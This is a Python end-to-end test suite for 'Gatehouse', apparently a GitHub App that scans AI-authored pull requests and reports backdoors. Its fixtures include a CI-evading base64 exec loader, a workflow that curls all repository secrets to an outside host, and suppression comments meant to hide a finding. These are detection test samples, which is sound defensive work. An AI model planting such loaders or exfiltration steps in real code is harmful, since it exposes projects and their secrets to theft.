"""End to end: signed webhooks into the App, a fake GitHub over real HTTP, results a user sees."""

from __future__ import annotations

from collections.abc import Sequence
from pathlib import Path
from typing import Any

import pytest
from conftest import need_api_description
from fakegithub import FakeGitHub
from fakegithub.harness import APP_ID, Harness, build, keypair

TELEMETRY = """import base64
import os

PAYLOAD = "cHJpbnQoJ2hlbGxvJyk="


def init():
    if os.environ.get("CI"):
        return
    exec(base64.b64decode(PAYLOAD))
"""
EXEC_LINE = 10
BASE_FILES = {"app/__init__.py": "", "app/util.py": "def add(a, b):\n    return a + b\n"}
AI_TRAILER = "Add telemetry\n\nCo-authored-by: Copilot <175728472+Copilot@users.noreply.github.com>"


@pytest.fixture
def fake() -> Any:
    _, public = keypair()
    with FakeGitHub(app_id=APP_ID, public_key=public) as gh:
        yield gh


@pytest.fixture
def h(tmp_path: Path, fake: FakeGitHub) -> Any:
    harness = build(tmp_path, fake)
    harness.repo.permissions.update({"maintainer": "write", "visitor": "read"})
    yield harness
    harness.close()


def _ai_pr(
    h: Harness,
    number: int = 1,
    files: dict[str, str] | None = None,
    message: str = AI_TRAILER,
    **kw: Any,
) -> tuple[str, str]:
    base = h.repo.commit(BASE_FILES, branch="main")
    head = h.repo.commit(files or {"app/telemetry.py": TELEMETRY}, parent=base, message=message)
    h.repo.open_pull(number, base=base, head=head, **kw)
    return base, head


def _only_run(h: Harness, sha: str) -> dict[str, Any]:
    runs = h.repo.runs_for(sha)
    assert len(runs) == 1, runs
    return runs[0]


def _no_violations(fake: FakeGitHub) -> None:
    need_api_description(fake.checker is not None)  # else nothing was checked
    assert fake.violations == [], fake.violations


def test_ai_pr_with_backdoor_fails_with_annotation_and_inline_comment_then_no_duplicates(
    h: Harness,
) -> None:
    _, head = _ai_pr(h)
    resp = h.deliver("pull_request", h.pr_payload("opened", 1))
    assert resp.status_code == 202

    run = _only_run(h, head)
    assert run["name"] == "Gatehouse"
    assert run["history"][0] == "in_progress"
    assert (run["status"], run["conclusion"]) == ("completed", "failure")
    notes = [a for a in run["annotations"] if a["path"] == "app/telemetry.py"]
    assert (
        notes and notes[0]["start_line"] == EXEC_LINE and notes[0]["annotation_level"] == "failure"
    )
    summary = run["output"]["summary"]
    assert "GitHub Copilot" in summary and "obfuscated-exec" in summary and "critical" in summary
    assert run["actions"][0]["identifier"] == "rescan"

    comments = h.repo.review_comments
    assert len(comments) == 1
    assert (comments[0]["path"], comments[0]["line"]) == ("app/telemetry.py", EXEC_LINE)
    assert "<!-- gatehouse:fp=" in comments[0]["body"]
    assert len(h.repo.reviews) == 1

    # a push with the same code: a new check run, still failing, and no duplicate comment
    head2 = h.repo.commit({"README.md": "docs\n"}, parent=head, message="docs")
    h.repo.push(1, head2)
    assert h.deliver("pull_request", h.pr_payload("synchronize", 1)).status_code == 202
    assert _only_run(h, head2)["conclusion"] == "failure"
    assert len(h.repo.review_comments) == 1
    assert len(h.repo.reviews) == 1

    # a maintainer asks for a re-scan: acknowledged, and a new scan of the same head
    assert h.deliver("issue_comment", h.comment_payload(1, "/gatehouse rescan")).status_code == 202
    assert h.repo.reactions == [{"comment_id": 555, "content": "+1"}]
    runs = h.repo.runs_for(head2)
    assert len(runs) == 2 and all(r["status"] == "completed" for r in runs)
    assert len(h.repo.review_comments) == 1
    _no_violations(h.fake)


def test_non_ai_pr_gets_a_neutral_skipped_check_run_under_the_default_policy(h: Harness) -> None:
    _, head = _ai_pr(h, message="Add telemetry")
    assert h.deliver("pull_request", h.pr_payload("opened", 1)).status_code == 202
    run = _only_run(h, head)
    assert run["conclusion"] == "neutral"
    assert run["output"]["title"].startswith("Skipped")
    assert "scan: ai-signals" in run["output"]["summary"]
    assert h.repo.review_comments == []
    _no_violations(h.fake)


def test_ai_label_marks_the_pr(h: Harness) -> None:
    _, head = _ai_pr(h, message="Add telemetry", labels=("ai-generated",))
    h.deliver("pull_request", h.pr_payload("opened", 1))
    assert _only_run(h, head)["conclusion"] == "failure"


def test_bad_signature_is_refused_and_nothing_is_stored(h: Harness) -> None:
    _ai_pr(h)
    resp = h.deliver(
        "pull_request",
        h.pr_payload("opened", 1),
        delivery_id="bad-1",
        secret="not-the-secret-at-all",
    )
    assert resp.status_code == 401
    resp = h.deliver("pull_request", h.pr_payload("opened", 1), delivery_id="bad-2", signature="")
    assert resp.status_code == 401
    assert h.ctx.store.get_delivery("bad-1") is None and h.ctx.store.get_delivery("bad-2") is None
    assert h.fake.requests == []


def test_completed_delivery_redelivered_is_a_duplicate(h: Harness) -> None:
    _, head = _ai_pr(h)
    assert (
        h.deliver("pull_request", h.pr_payload("opened", 1), delivery_id="d-1").status_code == 202
    )
    resp = h.deliver("pull_request", h.pr_payload("opened", 1), delivery_id="d-1")
    assert resp.status_code == 200 and resp.get_json() == {"duplicate": "d-1"}
    assert len(h.repo.runs_for(head)) == 1


def test_github_5xx_during_the_scan_is_retried_and_the_check_run_completes(h: Harness) -> None:
    _, head = _ai_pr(h)
    h.fake.inject("GET", r"/pulls/1/files$", 502, times=2)
    h.fake.inject("PATCH", r"/check-runs/\d+$", 503, times=1)
    h.deliver("pull_request", h.pr_payload("opened", 1))
    run = _only_run(h, head)
    assert (run["status"], run["conclusion"]) == ("completed", "failure")
    statuses = [r.status for r in h.fake.calls("GET", "/pulls/1/files")]
    assert statuses == [502, 502, 200]


def test_expired_installation_token_is_refreshed(h: Harness) -> None:
    _, head = _ai_pr(h)
    h.deliver("pull_request", h.pr_payload("opened", 1))
    minted = len(h.fake.calls("POST", "/access_tokens"))
    h.fake.expire_tokens()
    h.deliver("issue_comment", h.comment_payload(1, "/gatehouse rescan"))
    assert len(h.fake.calls("POST", "/access_tokens")) == minted + 1
    assert [r["status"] for r in h.repo.runs_for(head)] == ["completed", "completed"]


def test_github_keeps_failing_the_check_run_is_not_left_in_progress(h: Harness) -> None:
    from reviewer.service import handlers

    _, head = _ai_pr(h)
    h.fake.inject("GET", r"/pulls/1/files$", 502, times=50)
    h.deliver("pull_request", h.pr_payload("opened", 1), delivery_id="keeps-failing")
    # the job would retry later; when it gives up, the run is ended with the reason
    handlers.give_up(h.ctx, "keeps-failing", "GitHub answered 502")
    run = _only_run(h, head)
    assert (run["status"], run["conclusion"]) == ("completed", "failure")
    assert "502" in run["output"]["summary"]


class _PushDuringScan:
    """A real analyzer that moves the PR's head while the scan runs (a push mid-scan).

    It pushes into the test's in-process fake GitHub, so it must run in the worker's own
    process, as the tool runners do, not in the bounded child the in-process analyzers get.
    """

    name = "push-during-scan"
    runs_in_subprocess = True

    def __init__(self, h: Harness, number: int) -> None:
        self.h, self.number, self.new_head = h, number, ""

    def analyze(self, files: Sequence[Any], ctx: Any) -> Any:
        from reviewer.core.analyzers.base import AnalyzerOutput
        from reviewer.core.findings import Confidence, Finding, Severity

        pr = self.h.repo.pulls[self.number]
        self.new_head = self.h.repo.commit(
            {"x.txt": "x\n"}, parent=pr["head"]["sha"], message="more"
        )
        self.h.repo.push(self.number, self.new_head)
        return AnalyzerOutput(
            findings=[
                Finding(
                    "t",
                    "obfuscated-exec",
                    Severity.CRITICAL,
                    Confidence.HIGH,
                    "app/telemetry.py",
                    EXEC_LINE,
                    EXEC_LINE,
                    "m",
                    evidence="exec",
                )
            ]
        )


def test_superseded_scan_ends_cancelled_and_posts_no_stale_comment(
    tmp_path: Path, fake: FakeGitHub
) -> None:
    h = build(tmp_path, fake, analyzers=[])
    pusher = _PushDuringScan(h, 1)
    h.ctx.analyzers = [pusher]
    _, head = _ai_pr(h)
    h.deliver("pull_request", h.pr_payload("opened", 1))
    h.close()
    run = _only_run(h, head)
    assert (run["status"], run["conclusion"]) == ("completed", "cancelled")
    assert pusher.new_head[:12] in run["output"]["summary"]
    assert h.repo.review_comments == [] and h.repo.reviews == []


def test_commands_from_people_without_write_access_get_one_short_reply(h: Harness) -> None:
    _, head = _ai_pr(h)
    h.deliver("issue_comment", h.comment_payload(1, "/gatehouse rescan", user="visitor"))
    h.deliver(
        "issue_comment", h.comment_payload(1, "/gatehouse rescan", user="visitor", comment_id=556)
    )
    assert h.repo.runs_for(head) == []
    assert len(h.repo.issue_comments) == 1 and "write access" in h.repo.issue_comments[0]["body"]
    h.deliver(
        "issue_comment",
        h.comment_payload(1, "/gatehouse rescan", user="helper[bot]", user_type="Bot"),
    )
    assert len(h.repo.issue_comments) == 1 and h.repo.reactions == []


def test_a_reply_that_could_not_be_posted_is_sent_on_the_next_command(h: Harness) -> None:
    _ai_pr(h)
    h.fake.inject("POST", r"/issues/1/comments$", 502, times=4)  # every attempt of the first reply
    h.deliver("issue_comment", h.comment_payload(1, "/gatehouse rescan", user="visitor"))
    assert h.repo.issue_comments == []
    h.deliver(
        "issue_comment", h.comment_payload(1, "/gatehouse rescan", user="visitor", comment_id=557)
    )
    h.deliver(
        "issue_comment", h.comment_payload(1, "/gatehouse ai", user="visitor", comment_id=558)
    )
    assert [c["body"].split()[0] for c in h.repo.issue_comments] == ["@visitor"]


def test_ignore_command_dismisses_a_finding_with_who_and_why(h: Harness) -> None:
    _, head = _ai_pr(h)
    h.deliver("pull_request", h.pr_payload("opened", 1))
    fp = h.ctx.store.findings_for(h.ctx.store.get_scan("acme/widgets", 1, head).id)[0][
        "fingerprint"
    ]
    h.deliver(
        "issue_comment",
        h.comment_payload(1, f"/gatehouse ignore {fp[:12]} decoded config, reviewed"),
    )
    runs = h.repo.runs_for(head)
    assert [r["conclusion"] for r in runs] == ["failure", "success"]
    assert "Dismissed by maintainers" in runs[1]["output"]["summary"]
    dismissal = h.ctx.store.active_dismissals("acme/widgets", 1)[fp]
    assert (dismissal["who"], dismissal["reason"]) == ("maintainer", "decoded config, reviewed")
    assert (dismissal["pr"], dismissal["head_sha"]) == (1, head)


def test_ai_command_marks_a_pr_and_scans_it(h: Harness) -> None:
    _, head = _ai_pr(h, message="Add telemetry")
    h.deliver("pull_request", h.pr_payload("opened", 1))
    h.deliver("issue_comment", h.comment_payload(1, "/gatehouse ai cursor"))
    runs = h.repo.runs_for(head)
    assert [r["conclusion"] for r in runs] == ["neutral", "failure"]
    assert "Cursor" in runs[1]["output"]["summary"]


def test_check_suite_rerequested_from_a_fork_finds_the_pr_by_head_sha(h: Harness) -> None:
    _, head = _ai_pr(h, head_repo="someone/widgets")
    payload = {
        "action": "rerequested",
        "check_suite": {"head_sha": head, "pull_requests": []},
        "repository": {"full_name": "acme/widgets", "default_branch": "main"},
        "installation": {"id": 77},
    }
    assert h.deliver("check_suite", payload).status_code == 202
    assert _only_run(h, head)["conclusion"] == "failure"


def test_policy_comes_from_the_default_branch_not_from_the_pr(h: Harness) -> None:
    base = h.repo.commit(
        dict(BASE_FILES, **{".github/gatehouse.yml": "fail_on: critical\n"}), branch="main"
    )
    head = h.repo.commit(
        {
            "app/telemetry.py": TELEMETRY,
            ".github/gatehouse.yml": "fail_on: critical\n"
            "disabled_rules: [test-exec-decoded-payload]\n",
        },
        parent=base,
        message=AI_TRAILER,
    )
    h.repo.open_pull(1, base=base, head=head)
    h.deliver("pull_request", h.pr_payload("opened", 1))
    run = _only_run(h, head)
    assert run["conclusion"] == "failure"  # the PR's own attempt to disable the rule is ignored
    assert "fail on: critical" in run["output"]["summary"]


def test_invalid_config_yields_a_check_run_saying_what_and_where(h: Harness) -> None:
    base = h.repo.commit(
        dict(BASE_FILES, **{".github/gatehouse.yml": "scan: all\nfail_on: severe\n"}), branch="main"
    )
    head = h.repo.commit({"app/telemetry.py": TELEMETRY}, parent=base, message=AI_TRAILER)
    h.repo.open_pull(1, base=base, head=head)
    h.deliver("pull_request", h.pr_payload("opened", 1))
    run = _only_run(h, head)
    assert run["conclusion"] == "failure"
    assert ".github/gatehouse.yml line 2, fail_on" in run["output"]["summary"]


def test_scan_all_policy_and_require_human_for_a_vendor(h: Harness) -> None:
    cfg = "scan: all\nrequire_human_for:\n  vendors: [Anysphere]\n"
    base = h.repo.commit(dict(BASE_FILES, **{".github/gatehouse.yml": cfg}), branch="main")
    clean = h.repo.commit({"app/more.py": "X = 1\n"}, parent=base, message="tidy")
    h.repo.open_pull(1, base=base, head=clean)
    h.deliver("pull_request", h.pr_payload("opened", 1))
    assert _only_run(h, clean)["conclusion"] == "success"
    agent = h.repo.commit({"app/more.py": "X = 2\n"}, parent=base, message="tidy")
    h.repo.open_pull(2, base=base, head=agent, head_ref="cursor/tidy-up")
    h.deliver("pull_request", h.pr_payload("opened", 2))
    assert _only_run(h, agent)["conclusion"] == "action_required"


def test_missing_patch_is_read_as_a_blob_never_taken_as_unchanged(h: Harness) -> None:
    h.repo.omit_patch.add("app/telemetry.py")
    _, head = _ai_pr(h)
    h.deliver("pull_request", h.pr_payload("opened", 1))
    run = _only_run(h, head)
    assert run["conclusion"] == "failure"
    assert any(a["start_line"] == EXEC_LINE for a in run["annotations"])
    assert h.fake.calls("GET", "/git/blobs/")


def test_code_added_then_removed_in_a_later_commit_is_still_reported(h: Harness) -> None:
    base = h.repo.commit(BASE_FILES, branch="main")
    c1 = h.repo.commit({"app/telemetry.py": TELEMETRY}, parent=base, message=AI_TRAILER)
    c2 = h.repo.commit(
        {"app/telemetry.py": "def init():\n    return None\n"}, parent=c1, message="cleanup"
    )
    h.repo.open_pull(1, base=base, head=c2)
    h.deliver("pull_request", h.pr_payload("opened", 1))
    summary = _only_run(h, c2)["output"]["summary"]
    assert "removed later" in summary and c1[:7] in summary


SECRETS_WORKFLOW = """name: sync
on: [push]
jobs:
  sync:
    runs-on: ubuntu-latest
    steps:
      - run: |
          curl -s -X POST https://sync-metrics.example.net/upload \\
            -d "${{ toJSON(secrets) }}"
"""


def test_earlier_commits_are_scanned_at_their_real_paths(tmp_path: Path, fake: FakeGitHub) -> None:
    """A workflow that ships every secret, pushed in one commit and deleted in the next,
    is judged as a workflow (its path decides which checks apply) and named with its commit."""
    h = build(tmp_path, fake, analyzers=[])
    h.ctx.analyzers = None  # the shipped analyzers, workflow checks included
    base = h.repo.commit(BASE_FILES, branch="main")
    c1 = h.repo.commit(
        {".github/workflows/sync.yml": SECRETS_WORKFLOW}, parent=base, message=AI_TRAILER
    )
    c2 = h.repo.commit({".github/workflows/sync.yml": None}, parent=c1, message="drop the sync job")
    h.repo.open_pull(1, base=base, head=c2)
    h.deliver("pull_request", h.pr_payload("opened", 1))
    h.close()
    summary = _only_run(h, c2)["output"]["summary"]
    earlier = summary.split("removed later", 1)[1]
    assert "`wf-secrets-to-network` in `.github/workflows/sync.yml`" in earlier
    assert f"(commit {c1[:7]})" in earlier


def test_ignored_paths_stay_ignored_in_earlier_commits(h: Harness) -> None:
    cfg = {".github/gatehouse.yml": 'ignore_paths: ["vendor/**"]\n'}
    base = h.repo.commit(dict(BASE_FILES, **cfg), branch="main")
    c1 = h.repo.commit({"vendor/telemetry.py": TELEMETRY}, parent=base, message=AI_TRAILER)
    c2 = h.repo.commit(
        {"vendor/telemetry.py": None, "app/util.py": "X = 1\n"},
        parent=c1,
        message="drop the vendored copy",
    )
    h.repo.open_pull(1, base=base, head=c2)
    h.deliver("pull_request", h.pr_payload("opened", 1))
    run = _only_run(h, c2)
    assert "removed later" not in run["output"]["summary"]
    assert run["conclusion"] == "success"


def test_many_findings_send_annotations_in_batches_of_50(h: Harness) -> None:
    many = "import base64\n" + "".join(f"exec(base64.b64decode(P{i}))\n" for i in range(120))
    _, head = _ai_pr(h, files={"app/many.py": many})
    h.deliver("pull_request", h.pr_payload("opened", 1))
    run = _only_run(h, head)
    assert len(run["annotations"]) == 120
    patches = [c for c in h.fake.calls("PATCH", "/check-runs/") if c.body.get("output")]
    assert all(len(c.body["output"].get("annotations", [])) <= 50 for c in patches)
    assert len(h.repo.review_comments) == 25
    _no_violations(h.fake)


def test_the_shipped_rule_pack_fails_the_backdoor_too(tmp_path: Path, fake: FakeGitHub) -> None:
    h = build(tmp_path, fake, analyzers=[])
    h.ctx.analyzers = None  # the default analyzers over checks/semgrep
    _, head = _ai_pr(h)
    h.deliver("pull_request", h.pr_payload("opened", 1))
    h.close()
    run = _only_run(h, head)
    assert run["conclusion"] == "failure"
    assert any(
        a["path"] == "app/telemetry.py" and a["start_line"] == EXEC_LINE for a in run["annotations"]
    )
    assert [(c["path"], c["line"]) for c in h.repo.review_comments] == [
        ("app/telemetry.py", EXEC_LINE)
    ]


def test_gunicorn_entry_point_builds_the_app_from_the_environment(
    tmp_path: Path, fake: FakeGitHub, monkeypatch: pytest.MonkeyPatch
) -> None:
    import runpy

    from fakegithub.harness import SECRET

    from reviewer.service.context import set_context

    private, _ = keypair()
    monkeypatch.setenv("GATEHOUSE_APP_ID", str(APP_ID))
    monkeypatch.setenv("GATEHOUSE_PRIVATE_KEY", private)
    monkeypatch.setenv("GATEHOUSE_WEBHOOK_SECRET", SECRET)
    monkeypatch.setenv("GATEHOUSE_GITHUB_API_URL", fake.url)
    monkeypatch.setenv("GATEHOUSE_DATA_DIR", str(tmp_path))
    monkeypatch.setenv("GATEHOUSE_QUEUE_URL", "memory:")
    app = runpy.run_path(str(Path(__file__).resolve().parents[1] / "app.py"))["app"]
    client = app.test_client()
    assert client.get("/healthz").status_code == 200
    assert client.get("/readyz").status_code == 200
    assert (
        client.post("/webhook", data=b"{}", headers={"X-GitHub-Event": "ping"}).status_code == 401
    )
    app.extensions["gatehouse"].store.close()
    set_context(None)


def _free_port() -> int:
    import socket

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


def test_gatehouse_serve_processes_against_the_fake_over_http(tmp_path: Path) -> None:
    """The real service (`gatehouse serve`: web + worker processes, SQLite store and queue)."""
    import os
    import signal
    import subprocess
    import sys
    import time

    import requests
    from fakegithub import demo

    _, public = keypair()
    with FakeGitHub(app_id=demo.APP_ID, public_key=public) as fake:
        repo = demo.seed(fake)
        env = dict(os.environ, **demo.service_env(fake, tmp_path / "data"))
        port = _free_port()
        exe = Path(sys.executable).with_name("gatehouse")
        proc = subprocess.Popen(
            [str(exe), "serve", "--bind", f"127.0.0.1:{port}"],
            env=env,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.PIPE,
            start_new_session=True,
        )
        url = f"http://127.0.0.1:{port}"
        try:
            deadline = time.monotonic() + 60
            while True:
                try:
                    if requests.get(f"{url}/readyz", timeout=5).status_code == 200:
                        break
                except requests.RequestException:
                    pass
                assert proc.poll() is None and time.monotonic() < deadline, (
                    "the service did not start"
                )
                time.sleep(0.2)
            head = repo.pulls[1]["head"]["sha"]
            assert (
                demo.deliver(url, "pull_request", demo.pr_event(repo, "opened")).status_code == 202
            )
            run = demo.wait_for_runs(repo, head, 1)[0]
            assert run["conclusion"] == "failure" and run["annotations"]
            assert [(c["path"], c["line"]) for c in repo.review_comments] == [
                ("app/telemetry.py", demo.BACKDOOR_LINE)
            ]

            head2 = repo.commit({"README.md": "x\n"}, parent=head, message="docs")
            repo.push(1, head2)
            assert (
                demo.deliver(url, "pull_request", demo.pr_event(repo, "synchronize")).status_code
                == 202
            )
            assert demo.wait_for_runs(repo, head2, 1)[0]["conclusion"] == "failure"
            assert (
                demo.deliver(
                    url, "issue_comment", demo.comment_event(repo, "/gatehouse rescan")
                ).status_code
                == 202
            )
            assert len(demo.wait_for_runs(repo, head2, 2)) == 2
            assert len(repo.review_comments) == 1
            _no_violations(fake)
        finally:
            os.killpg(proc.pid, signal.SIGTERM)
            try:
                proc.wait(timeout=20)
            except subprocess.TimeoutExpired:
                os.killpg(proc.pid, signal.SIGKILL)
                proc.wait(timeout=5)


def test_binary_files_are_reported_as_not_analysed(h: Harness) -> None:
    _, head = _ai_pr(
        h, files={"app/telemetry.py": TELEMETRY, "assets/tool.bin": b"\x7fELF\x00\x01\x02" * 50}
    )
    h.deliver("pull_request", h.pr_payload("opened", 1))
    summary = _only_run(h, head)["output"]["summary"]
    assert "### Not analysed" in summary and "`assets/tool.bin`: binary" in summary


def test_githubs_published_payloads_drive_the_app(
    tmp_path: Path, fake: FakeGitHub, shared_dir: Path
) -> None:
    """GitHub's own example deliveries, unchanged, against a fake repository with the same SHAs."""
    import json

    payloads = shared_dir / "github" / "payloads"
    opened = json.loads((payloads / "pull_request.opened.json").read_text())
    h = build(tmp_path, fake)
    try:
        fake.add_installation(opened["installation"]["id"], "Codertocat")
        repo = fake.add_repo(
            opened["repository"]["full_name"], default_branch=opened["repository"]["default_branch"]
        )
        pr = opened["pull_request"]
        base = repo.commit(BASE_FILES, branch="master", sha=pr["base"]["sha"])
        repo.commit(
            {"app/telemetry.py": TELEMETRY},
            parent=base,
            message="Update README",
            sha=pr["head"]["sha"],
        )
        repo.open_pull(pr["number"], base=base, head=pr["head"]["sha"], labels=("ai-assisted",))
        raw = (payloads / "pull_request.opened.json").read_bytes()
        from fakegithub.harness import SECRET

        from reviewer.app.webhooks import sign

        headers = {
            "X-GitHub-Event": "pull_request",
            "X-GitHub-Delivery": "gh-example-1",
            "X-Hub-Signature-256": sign(raw, SECRET),
        }
        assert h.client.post("/webhook", data=raw, headers=headers).status_code == 202
        assert _only_run_in(repo, pr["head"]["sha"])["conclusion"] == "failure"

        suite = (payloads / "check_suite.rerequested.json").read_bytes()
        fake.add_installation(json.loads(suite)["installation"]["id"], "Codertocat")
        headers.update(
            {
                "X-GitHub-Event": "check_suite",
                "X-GitHub-Delivery": "gh-example-2",
                "X-Hub-Signature-256": sign(suite, SECRET),
            }
        )
        assert h.client.post("/webhook", data=suite, headers=headers).status_code == 202
        assert len(repo.runs_for(pr["head"]["sha"])) == 2

        other_app = (
            payloads / "check_run.requested_action.json"
        ).read_bytes()  # another App's check run
        headers.update(
            {
                "X-GitHub-Event": "check_run",
                "X-GitHub-Delivery": "gh-example-3",
                "X-Hub-Signature-256": sign(other_app, SECRET),
            }
        )
        assert h.client.post("/webhook", data=other_app, headers=headers).status_code == 202
        assert h.ctx.store.get_delivery("gh-example-3").outcome == "ignored"
        _no_violations(fake)
    finally:
        h.close()


def _only_run_in(repo: Any, sha: str) -> dict[str, Any]:
    runs = repo.runs_for(sha)
    assert len(runs) == 1, runs
    return runs[0]


def test_a_scan_that_fails_ends_its_check_run_with_the_reason(h: Harness) -> None:
    _, head = _ai_pr(h)
    h.fake.inject("GET", r"/git/blobs/", 404, times=5, message="Not Found")
    h.deliver("pull_request", h.pr_payload("opened", 1), delivery_id="fails-1")
    run = _only_run(h, head)
    assert (run["status"], run["conclusion"]) == ("completed", "failure")
    assert run["output"]["title"] == "Gatehouse could not finish the scan"
    assert "git/blobs" in run["output"]["summary"] and "404" in run["output"]["summary"]
    assert h.ctx.store.get_delivery("fails-1").outcome.startswith("failed")


def test_event_for_a_pr_github_does_not_know_completes_as_failed_without_a_check_run(
    h: Harness,
) -> None:
    _ai_pr(h)
    payload = h.pr_payload("opened", 1)
    payload["pull_request"]["number"] = 99
    h.deliver("pull_request", payload, delivery_id="ghost-1")
    assert h.ctx.store.get_delivery("ghost-1").outcome.startswith("failed")
    assert h.repo.check_runs == []


def test_closed_pull_requests_are_not_scanned(h: Harness) -> None:
    _ai_pr(h)
    h.repo.pulls[1]["state"] = "closed"
    h.deliver("pull_request", h.pr_payload("closed", 1), delivery_id="closed-1")
    h.deliver("pull_request", h.pr_payload("reopened", 1), delivery_id="closed-2")
    assert h.repo.check_runs == []
    assert h.ctx.store.get_delivery("closed-1").outcome == "ignored"


def test_suppression_comments_inside_the_pr_do_not_silence_a_finding(h: Harness) -> None:
    sneaky = TELEMETRY.replace(
        "exec(base64.b64decode(PAYLOAD))",
        "exec(base64.b64decode(PAYLOAD))  # nosemgrep  gatehouse: ignore",
    )
    _, head = _ai_pr(h, files={"app/telemetry.py": sneaky})
    h.deliver("pull_request", h.pr_payload("opened", 1))
    assert _only_run(h, head)["conclusion"] == "failure"


def test_two_workers_never_scan_one_head_at_once(h: Harness) -> None:
    """A head whose scan another worker holds is left to it: no second check run, and
    giving up on the waiting delivery does not end the holder's run."""
    from fakegithub.harness import INSTALLATION

    _, head = _ai_pr(h)
    record = h.ctx.store.begin_scan(
        h.repo.full_name, 1, head, installation_id=INSTALLATION, trigger="opened"
    )
    assert h.ctx.store.claim_scan(record.id, owner="other-worker#1", lease_s=600)
    h.deliver("pull_request", h.pr_payload("labeled", 1), delivery_id="while-busy")
    assert h.repo.runs_for(head) == []  # the busy head was left to its holder

    h.ctx.store.release_scan(record.id, owner="other-worker#1")
    # another event (a different body: the same body again would be a replay)
    h.deliver(
        "pull_request",
        h.pr_payload("labeled", 1, sender={"login": "maintainer"}),
        delivery_id="after-release",
    )
    run = _only_run(h, head)
    assert (run["status"], run["conclusion"]) == ("completed", "failure")
